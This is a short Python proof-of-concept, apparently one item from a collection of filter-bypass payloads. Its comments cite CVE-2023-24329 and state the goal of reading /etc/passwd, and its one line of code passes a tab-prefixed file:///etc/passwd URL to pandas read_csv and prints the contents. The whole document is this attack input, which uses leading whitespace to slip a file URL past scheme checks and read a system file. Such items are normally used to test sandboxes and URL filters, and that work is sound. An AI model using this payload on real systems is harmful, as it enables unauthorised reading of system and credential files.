# source: CVE-2023-24329 + pandas read_csv URLs
# family: whitespace-prefixed file URL passed by keyword
# goal: read /etc/passwd
import pandas as pd
print(pd.read_csv(filepath_or_buffer="\tfile:///etc/passwd", header=None, sep="\t").to_string())
